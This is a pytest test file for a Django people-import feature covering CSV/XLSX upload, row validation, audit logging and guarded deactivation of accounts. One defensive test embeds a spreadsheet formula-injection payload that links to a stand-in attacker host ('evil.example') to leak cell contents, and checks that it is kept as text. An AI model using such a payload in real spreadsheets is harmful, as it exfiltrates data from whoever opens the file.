"""import_people (SPEC §11, §12; issue 15): the command and the Manage upload, all or nothing."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.contenttypes.models import ContentType
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from performance.common import access, spreadsheets
from performance.core.roles import Role
from performance.manage import people_imports
from performance.models import AuditEvent, TeamMembership
from tests.factories import TeamFactory, UserFactory

pytestmark = pytest.mark.django_db

User = get_user_model()
HEADER = ["username", "name", "email", "team", "roles"]


def csv_bytes(rows, header=HEADER) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def xlsx_bytes(rows, header=HEADER) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            spreadsheets.put(cell, cell.value)  # text is a text cell, as a directory exports it
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.fixture
def teams(db):
    return {"waste": TeamFactory(name="Waste", slug="waste"), "parks": TeamFactory(name="Parks")}


@pytest.fixture
def officer(db, client):
    user = UserFactory(username="pat", roles=[Role.PERFORMANCE_OFFICER])
    client.force_login(user)
    return user


ROWS = [
    ["asmith", "Alex Smith", "alex.smith@example.gov.uk", "Waste", "enterer"],
    ["bjones", "Mary Ann Jones", "", "waste; parks", "manager;head"],
    ["cmember", "Cllr Chris Lee", "chris@example.gov.uk", "", "member"],
]


def write(tmp_path, rows, name="people.csv", header=HEADER):
    path = tmp_path / name
    data = xlsx_bytes(rows, header) if name.endswith(".xlsx") else csv_bytes(rows, header)
    path.write_bytes(data)
    return path


def teams_of(user) -> set[str]:
    return set(TeamMembership.objects.filter(user=user).values_list("team__name", flat=True))


def roles_of(user) -> set[str]:
    return set(user.groups.values_list("name", flat=True))


def events_of(user):
    return AuditEvent.objects.filter(
        content_type=ContentType.objects.get_for_model(User), object_id=str(user.pk)
    )


@pytest.mark.parametrize("name", ["people.csv", "people.xlsx"])
def test_import_creates_people_with_their_teams_and_roles(tmp_path, teams, name):
    _plan, result = people_imports.import_people(path=write(tmp_path, ROWS, name))

    assert (result.created, result.updated, result.unchanged) == (3, 0, 0)
    alex = User.objects.get(username="asmith")
    assert (alex.first_name, alex.last_name, alex.email) == ("Alex", "Smith", ROWS[0][2])
    assert alex.is_active
    assert not alex.has_usable_password()
    assert roles_of(alex) == {Role.DATA_ENTERER.value}
    assert teams_of(alex) == {"Waste"}
    mary = User.objects.get(username="bjones")
    assert (mary.first_name, mary.last_name) == ("Mary Ann", "Jones")
    assert roles_of(mary) == {Role.DATA_MANAGER.value, Role.SERVICE_MANAGER.value}
    assert teams_of(mary) == {"Waste", "Parks"}
    assert teams_of(User.objects.get(username="cmember")) == set()


def test_import_is_audited_as_creation_roles_and_memberships(tmp_path, teams):
    people_imports.import_people(path=write(tmp_path, ROWS[:1]))

    alex = User.objects.get(username="asmith")
    actions = {(e.action, tuple(sorted(e.changes))) for e in events_of(alex)}
    assert ("create", ("email", "first_name", "is_active", "last_name", "username")) in actions
    assert ("update", ("roles",)) in actions
    assert all("people import people.csv" in e.reason for e in events_of(alex) if e.reason)
    membership = TeamMembership.objects.get(user=alex)
    assert AuditEvent.objects.filter(
        content_type=ContentType.objects.get_for_model(TeamMembership),
        object_id=str(membership.pk),
        action="create",
    ).exists()


def test_reimport_is_idempotent_and_writes_no_audit(tmp_path, teams):
    path = write(tmp_path, ROWS)
    people_imports.import_people(path=path)
    events = AuditEvent.objects.count()

    _plan, again = people_imports.import_people(path=path)

    assert (again.created, again.updated, again.unchanged) == (0, 0, 3)
    assert AuditEvent.objects.count() == events
    assert User.objects.count() == 3


def test_a_later_file_changes_roles_and_teams_exactly(tmp_path, teams):
    people_imports.import_people(path=write(tmp_path, ROWS))
    changed = [["bjones", "Mary Ann Jones", "", "Parks", "performance"]]

    _plan, result = people_imports.import_people(path=write(tmp_path, changed, "later.csv"))

    mary = User.objects.get(username="bjones")
    assert result.updated == 1
    assert roles_of(mary) == {Role.PERFORMANCE_OFFICER.value}
    assert teams_of(mary) == {"Parks"}
    assert events_of(mary).filter(changes__has_key="roles").count() == 2


def test_existing_username_is_matched_ignoring_case(tmp_path, teams):
    existing = UserFactory(username="ASmith", roles=[Role.MEMBER])

    people_imports.import_people(path=write(tmp_path, ROWS[:1]))

    existing.refresh_from_db()
    assert User.objects.filter(username__iexact="asmith").count() == 1
    assert roles_of(existing) == {Role.DATA_ENTERER.value}
    assert existing.has_usable_password()  # a file never touches a password


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (
            ["dboss", "Dee Boss", "", "Waste", "enterer;Boss"],
            "Row 5, column roles: unknown role 'Boss' (one of performance, enterer, manager, "
            "head, member).",
        ),
        (["dboss", "Dee Boss", "", "Nowhere", "enterer"], "Row 5, column team: no team is called"),
        (["dboss", "Dee Boss", "not-an-email", "", "enterer"], "Row 5, column email:"),
        (["", "Dee Boss", "", "", "enterer"], "Row 5, column username: a value is required."),
        (["dee boss", "Dee Boss", "", "", "enterer"], "Row 5, column username:"),
        (["dboss", "", "", "", "enterer"], "Row 5, column name: a value is required."),
        (["dboss", "Dee Boss", "", "", ""], "Row 5, column roles: a value is required"),
        (["asmith", "Dee Boss", "", "", "member"], "Row 5, column username: 'asmith' is already"),
    ],
)
def test_a_bad_row_refuses_the_whole_file_naming_row_and_column(tmp_path, teams, row, message):
    with pytest.raises(people_imports.ImportRejected) as rejected:
        people_imports.import_people(path=write(tmp_path, [*ROWS, row]))

    assert any(error.startswith(message) for error in rejected.value.errors), rejected.value.errors
    assert User.objects.count() == 0
    assert AuditEvent.objects.count() == 0


def test_an_unexpected_column_such_as_password_is_refused(tmp_path, teams):
    path = write(tmp_path, [[*ROWS[0], "secret"]], header=[*HEADER, "password"])
    with pytest.raises(people_imports.ImportRejected, match="unexpected column: password"):
        people_imports.import_people(path=path)


@pytest.mark.parametrize("name", ["people.csv", "people.xlsx"])
def test_formula_looking_cells_are_kept_as_text(tmp_path, teams, name):
    formula = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    rows = [["evil", formula, "", "", "member"]]

    people_imports.import_people(path=write(tmp_path, rows, name))

    person = User.objects.get(username="evil")
    assert person.get_full_name() == formula


# --- missing people ----------------------------------------------------------------------------


def test_missing_people_are_listed_and_left_alone_without_confirmation(tmp_path, teams):
    leaver = UserFactory(username="leaver", roles=[Role.DATA_ENTERER])
    admin = UserFactory(username="root", is_superuser=True)

    plan, result = people_imports.import_people(path=write(tmp_path, ROWS))

    assert [m.username for m in plan.missing] == ["leaver"]
    assert [m.username for m in plan.kept] == ["root"]
    assert result.deactivated == []
    leaver.refresh_from_db()
    assert leaver.is_active
    admin.refresh_from_db()
    assert admin.is_active


def test_deactivate_missing_deactivates_them_with_an_audit_event(tmp_path, teams):
    leaver = UserFactory(username="leaver", roles=[Role.DATA_ENTERER])
    root = UserFactory(username="root", is_superuser=True)

    _plan, result = people_imports.import_people(path=write(tmp_path, ROWS), deactivate=True)

    assert result.deactivated == ["leaver"]
    leaver.refresh_from_db()
    assert not leaver.is_active
    assert events_of(leaver).get(changes__has_key="is_active").changes == {
        "is_active": [True, False]
    }
    root.refresh_from_db()
    assert root.is_active  # the break-glass administrator is never deactivated


def test_the_last_performance_officer_is_never_deactivated(tmp_path, teams):
    UserFactory(username="onlyofficer", roles=[Role.PERFORMANCE_OFFICER])

    with pytest.raises(people_imports.ImportRejected, match="last active performance officer"):
        people_imports.import_people(path=write(tmp_path, ROWS), deactivate=True)

    assert User.objects.get(username="onlyofficer").is_active
    assert not User.objects.filter(username="asmith").exists()  # nothing half-written


def test_a_deactivated_person_in_the_file_stays_deactivated(tmp_path, teams):
    UserFactory(username="asmith", is_active=False)

    _plan, result = people_imports.import_people(path=write(tmp_path, ROWS))

    assert result.still_inactive == ["asmith"]
    assert not User.objects.get(username="asmith").is_active


# --- the command ---------------------------------------------------------------------------------


def test_command_imports_and_reports(tmp_path, teams, capsys):
    call_command("import_people", str(write(tmp_path, ROWS)))

    out = capsys.readouterr().out
    assert "3 people: 3 created, 0 updated, 0 unchanged" in out
    assert User.objects.count() == 3


def test_command_rejects_a_bad_file_with_row_and_column(tmp_path, teams):
    bad = [["x", "X Y", "", "", "boss"]]
    with pytest.raises(CommandError, match="Row 2, column roles: unknown role 'boss'"):
        call_command("import_people", str(write(tmp_path, bad)))
    assert User.objects.count() == 0


def test_command_deactivate_missing_needs_yes_and_lists_them(tmp_path, teams, capsys):
    leaver = UserFactory(username="leaver", first_name="Lee", last_name="Ver")
    path = str(write(tmp_path, ROWS))

    with pytest.raises(CommandError, match="run again with --yes"):
        call_command("import_people", path, "--deactivate-missing")

    assert "Lee Ver (leaver)" in capsys.readouterr().out
    assert User.objects.count() == 1
    leaver.refresh_from_db()
    assert leaver.is_active

    call_command("import_people", path, "--deactivate-missing", "--dry-run")
    assert "Dry run, nothing was changed" in capsys.readouterr().out
    assert User.objects.count() == 1

    call_command("import_people", path, "--deactivate-missing", "--yes")
    leaver.refresh_from_db()
    assert not leaver.is_active
    assert User.objects.filter(is_active=True).count() == 3


# --- the Manage page -------------------------------------------------------------------------------


def upload(client, rows, *, name="people.csv", full=False, follow=False):
    data = xlsx_bytes(rows) if name.endswith(".xlsx") else csv_bytes(rows)
    payload = {"file": SimpleUploadedFile(name, data)}
    if full:
        payload["full"] = "on"
    return client.post(reverse("performance:manage-people-import"), payload, follow=follow)


@pytest.mark.parametrize("name", ["people.csv", "people.xlsx"])
def test_upload_imports_and_audits_as_the_officer(client, officer, teams, name):
    response = upload(client, ROWS, name=name)

    assert response.status_code == 302
    assert response.url == reverse("performance:manage-people")
    alex = User.objects.get(username="asmith")
    assert teams_of(alex) == {"Waste"}
    assert {e.actor_id for e in events_of(alex)} == {officer.pk}


def test_upload_of_a_bad_file_shows_every_error_and_saves_nothing(client, officer, teams):
    response = upload(client, [*ROWS, ["d", "D E", "", "", "Boss"]])

    assert response.status_code == 400
    assert "Row 5, column roles: unknown role &#x27;Boss&#x27;" in response.content.decode()
    assert User.objects.count() == 1


def test_full_upload_confirms_before_deactivating(client, officer, teams):
    leaver = UserFactory(username="leaver", first_name="Lee", last_name="Ver")

    response = upload(client, ROWS, full=True)
    assert response.url == reverse("performance:manage-people-import-confirm")
    assert not User.objects.filter(username="asmith").exists()  # nothing saved yet
    page = client.get(response.url)
    assert "Lee Ver (leaver)" in page.content.decode()
    assert "pat" not in [m.username for m in page.context["plan"].missing]  # never the importer

    done = client.post(response.url, {"deactivate": "yes"})

    assert done.status_code == 302
    leaver.refresh_from_db()
    assert not leaver.is_active
    assert User.objects.get(username="pat").is_active
    assert User.objects.filter(username="asmith").exists()


def test_full_upload_can_import_without_deactivating(client, officer, teams):
    leaver = UserFactory(username="leaver")
    url = upload(client, ROWS, full=True).url

    client.post(url, {"deactivate": "no"})

    leaver.refresh_from_db()
    assert leaver.is_active
    assert User.objects.filter(username="asmith").exists()


def test_confirmation_is_refused_when_the_missing_people_changed(client, officer, teams):
    UserFactory(username="leaver")
    url = upload(client, ROWS, full=True).url
    UserFactory(username="newcomer")  # added meanwhile: it was not on the list shown

    response = client.post(url, {"deactivate": "yes"})

    assert response.status_code == 400
    assert User.objects.get(username="leaver").is_active
    assert not User.objects.filter(username="asmith").exists()


# --- deactivate / reactivate one account --------------------------------------------------------


def test_officer_deactivates_and_reactivates_an_account(client, officer):
    person = UserFactory(username="leaver", roles=[Role.DATA_ENTERER])
    url = reverse("performance:manage-person-active", args=[person.pk])

    client.post(url, {"active": "0"})
    person.refresh_from_db()
    assert not person.is_active
    client.post(url, {"active": "1"})
    person.refresh_from_db()
    assert person.is_active
    assert [e.changes for e in events_of(person).order_by("id")] == [
        {"is_active": [True, False]},
        {"is_active": [False, True]},
    ]


def test_a_deactivated_person_is_signed_out(client, officer):
    person = UserFactory(username="leaver", roles=[Role.DATA_ENTERER])
    other = client.__class__()
    other.force_login(person)
    assert other.get(reverse("home")).status_code == 200

    client.post(reverse("performance:manage-person-active", args=[person.pk]), {"active": "0"})

    assert other.get(reverse("home")).status_code == 302


@pytest.mark.parametrize("who", ["self", "superuser"])
def test_self_and_superusers_are_never_deactivated(client, officer, who):
    person = officer if who == "self" else UserFactory(username="root", is_superuser=True)

    response = client.post(
        reverse("performance:manage-person-active", args=[person.pk]), {"active": "0"}, follow=True
    )

    person.refresh_from_db()
    assert person.is_active
    assert "never deactivated" in response.content.decode() or "your own" in (
        response.content.decode()
    )


def test_the_last_officer_cannot_be_deactivated_by_the_service():
    from performance.manage import services

    only = UserFactory(username="only", roles=[Role.PERFORMANCE_OFFICER])
    with pytest.raises(services.EditError, match="last active performance officer"):
        services.set_active(actor=None, user=only, active=False)
    assert access.is_performance_officer(only)
